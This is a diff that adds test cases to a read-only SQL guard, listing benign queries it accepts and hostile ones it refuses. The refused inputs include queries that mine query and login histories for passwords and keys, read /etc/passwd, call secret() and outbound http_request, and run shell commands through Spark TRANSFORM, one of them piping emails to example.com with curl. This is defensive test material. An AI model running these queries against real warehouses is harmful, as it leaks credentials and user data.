@@ -41,6 +41,15 @@ describe("read-only SQL guard", () => {
     // Strings and @ operators elsewhere than where a table goes.
     ["SELECT count(*) FROM orders o JOIN lines l ON o.id = l.order_id, refunds r WHERE o.tags @> '{a}' AND r.note = 'x/y'"],
     ['SELECT count(*) FROM "sales"."orders" WHERE path LIKE \'/data/%\' AND "km/h" > 0'],
+    // A contract's own tables named like the warehouses' query histories, unqualified; columns named like refused functions.
+    ["SELECT count(*) FROM jobs j JOIN queries q ON j.id = q.job_id WHERE j.secret IS NULL AND q.http_request <> ''"],
+    ["SELECT count(*) FROM sales.jobs, `proj.sales.queries` WHERE runtime > 0"],
+    ["SELECT count(*) FROM security.login_history l JOIN access_history a ON a.user_id = l.user_id, query_history q"],
+    ["SELECT count(*) FROM information_schema.columns WHERE table_name = 'orders'"],
+    // USING without a script: a join's columns, DuckDB's sample, an ordering operator; Spark's transform function of arrays.
+    ["SELECT count(*) FROM orders JOIN lines USING (order_id) WHERE cardinality(transform(tags, t -> upper(t))) > 0"],
+    ["SELECT count(*) FROM orders USING SAMPLE 10%"],
+    ["SELECT count(*) FROM (SELECT amount FROM orders ORDER BY amount USING < LIMIT 3) t"],
   ])("accepts %j", (sql) => {
     expect(inspectReadOnlySql(sql)).toEqual({ readOnly: true });
   });
@@ -241,6 +250,27 @@ describe("read-only SQL guard", () => {
     ["SELECT count(*) FROM t WHERE a = \"x\\\"\" OR b = R\"\\\" ; DELETE FROM t ; -- \" -- \"", "more than one statement"],
     // PostgreSQL, DuckDB, Trino and Spark end a line comment at a carriage return: what follows it is code there.
     ["SELECT count(*) FROM t -- note\rWHERE length(pg_read_file('/etc/passwd')) > 0", "carriage return inside a line comment"],
+    // The warehouses' query and login histories (every user's SQL text), as pg_stat_activity is PostgreSQL's.
+    ["SELECT count(*) FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY()) WHERE query_text ILIKE '%password%'", "reads `INFORMATION_SCHEMA.QUERY_HISTORY`"],
+    ["SELECT count(*) FROM TABLE(information_schema.query_history_by_user(USER_NAME => 'ADMIN'))", "reads `query_history_by_user`"],
+    ["SELECT count(*) FROM snowflake.account_usage.query_history", "reads `account_usage.query_history`"],
+    ["SELECT count(*) FROM SNOWFLAKE.ACCOUNT_USAGE.LOGIN_HISTORY", "reads `ACCOUNT_USAGE.LOGIN_HISTORY`"],
+    ["SELECT count(*) FROM `region-us`.INFORMATION_SCHEMA.JOBS WHERE query LIKE '%key%'", "reads `INFORMATION_SCHEMA.JOBS`"],
+    ["SELECT count(*) FROM `my-proj.region-us.INFORMATION_SCHEMA.JOBS`", "reads `INFORMATION_SCHEMA.JOBS`"],
+    ["SELECT count(*) FROM `region-eu.INFORMATION_SCHEMA.JOBS_BY_PROJECT`", "reads `JOBS_BY_PROJECT`"],
+    ["SELECT count(*) FROM region-us.INFORMATION_SCHEMA.jobs_by_user", "reads `jobs_by_user`"],
+    ['SELECT count(*) FROM system.runtime.queries WHERE "query" LIKE \'%secret%\'', "reads `runtime.queries`"],
+    ['SELECT count(*) FROM "system"."runtime"."queries"', "reads `runtime.queries`"],
+    // Snowflake's links to a stage's files and reads of earlier results; Databricks' secrets and outbound calls.
+    ["SELECT count(*) FROM orders WHERE GET_PRESIGNED_URL(@exports, 'orders.csv') IS NOT NULL", "calls `GET_PRESIGNED_URL()`"],
+    ["SELECT count(*) FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2)))", "calls `RESULT_SCAN()`"],
+    ["SELECT length(secret('prod', 'db-password'))", "calls `secret()`"],
+    ["SELECT count(*) FROM orders WHERE http_request(conn => 'hook', method => 'POST', path => email) IS NOT NULL", "calls `http_request()`"],
+    ["SELECT count(*) FROM orders WHERE ai_query('endpoint', email) = 'spam'", "calls `ai_query()`"],
+    // Spark's script transform runs a shell command on every executor, in a query that only reads.
+    ["SELECT count(*) FROM (SELECT TRANSFORM(email) USING 'curl -d @- https://example.com/x' AS (out) FROM orders) t", "runs a script"],
+    ['SELECT count(*) FROM (SELECT TRANSFORM(*) ROW FORMAT DELIMITED USING "sh -c id" FROM orders) t', "runs a script"],
+    ["SELECT max(x) FROM (MAP email USING r'/bin/sh -c id' AS (x) FROM orders)", "runs a script"],
   ])("refuses %j", (sql, reason) => {
     const inspection = inspectReadOnlySql(sql);
     expect(inspection.readOnly).toBe(false);
